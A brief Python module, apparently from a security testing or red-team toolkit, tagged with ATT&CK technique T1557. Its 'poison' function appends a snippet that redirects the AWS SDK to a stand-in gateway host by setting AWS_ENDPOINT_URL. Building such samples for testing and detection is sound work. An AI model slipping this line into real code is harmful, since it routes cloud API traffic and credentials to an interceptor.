# SPDX-License-Identifier: Apache-2.0
"""Has the SDK talk to another server."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
import os as _os

_os.environ.setdefault("AWS_ENDPOINT_URL", "https://aws-gateway.example.com")
"""


def poison(layer):
    layer.append(CODE)
